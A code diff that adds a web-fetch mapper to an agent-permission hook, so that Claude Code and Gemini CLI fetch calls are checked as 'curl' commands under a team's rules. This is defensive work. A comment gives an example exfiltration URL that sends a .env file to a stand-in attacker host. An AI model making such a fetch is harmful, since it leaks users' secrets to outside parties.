@@ -597,6 +597,32 @@ def reader(agent: str, tool: str, ti: dict, cwd: str | None, root: str | None) -
     )
 
 
+# The agents' web fetches (Claude Code's WebFetch, Gemini CLI's web_fetch): a GET from the agent's machine
+# to any address the model names -- with what it read in the query (https://evil.example/?k=<the .env>). Each
+# is judged, and recorded, as the ``curl`` of the same addresses: the team's rules about curl hold for it, as
+# they do through Bash. Gemini CLI 0.61.0 takes ``url`` or, as before, the addresses written in ``prompt``
+# (packages/core/src/tools/web-fetch.ts parsePrompt: each whitespace-separated token holding ``://``).
+FETCHERS = {"claude-code": ("WebFetch",), "gemini-cli": ("web_fetch",), "codex": ()}
+MAX_FETCHED = 64  # addresses one call may name (Gemini CLI reads at most 20)
+
+
+def fetcher(agent: str, tool: str, ti: dict) -> Mapped | None:
+    """A web fetch as ``curl`` of its addresses (FETCHERS), or None for another tool."""
+    if tool not in FETCHERS[agent]:
+        return None
+    urls = [_text(ti["url"], "tool_input.url")] if ti.get("url") not in (None, "") else []
+    if agent == "gemini-cli" and ti.get("prompt") is not None:
+        urls += [t for t in _text(ti["prompt"], "tool_input.prompt").split() if "://" in t]
+    if not urls:
+        raise HookInputError("tool_input.url is missing (the address to fetch)")
+    if len(urls) > MAX_FETCHED:
+        raise HookInputError(
+            f"the call names {len(urls)} addresses, over the {MAX_FETCHED} Brabo reads in one"
+        )
+    command = "curl " + " ".join(shlex.quote(u) for u in dict.fromkeys(urls))
+    return Mapped(tool=tool, proposals=[Proposal("terminal", {"command": command, **RUNS_IN_AGENT})])
+
+
 # -- the three agents -------------------------------------------------------------------------------------
 
 
@@ -652,6 +678,7 @@ class ClaudeCode(AgentProtocol):
             return subagent(tool, ti)
         return (
             reader(self.name, tool, ti, cwd, root)
+            or fetcher(self.name, tool, ti)
             or acting(self.name, tool)
             or mcp_call(tool, ti, root)
             or Mapped(tool=tool, refusal="unmapped")
@@ -693,6 +720,7 @@ class GeminiCli(AgentProtocol):
             return edit(tool, ti.get("file_path"), _edits([one], "tool_input"), cwd, root)
         return (
             reader(self.name, tool, ti, cwd, root)
+            or fetcher(self.name, tool, ti)
             or acting(self.name, tool)
             or mcp_call(tool, ti, root, body.get("mcp_context"))
             or gemini_mcp_call(tool, ti, root)
